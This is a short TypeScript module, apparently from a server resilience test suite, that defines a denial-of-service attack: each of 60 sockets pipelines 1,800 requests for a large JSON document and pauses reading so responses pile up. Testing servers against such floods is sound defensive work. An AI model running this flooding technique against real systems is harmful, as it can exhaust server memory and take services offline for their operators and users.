import type { Attack } from '../../support/attacker.ts'
import { keepOpen } from '../../support/flooding.ts'
import { requestText } from '../../support/raw-http.ts'

/** Each connection requests something large 1,800 times at once and reads nothing. */
export const attack: Attack = (target) => {
  const asked = requestText('GET /docs/json').repeat(1800)
  return keepOpen(target, { sockets: 60, addresses: 3, perSecond: 200 }, (socket) => {
    socket.pause().write(asked)
  })
}
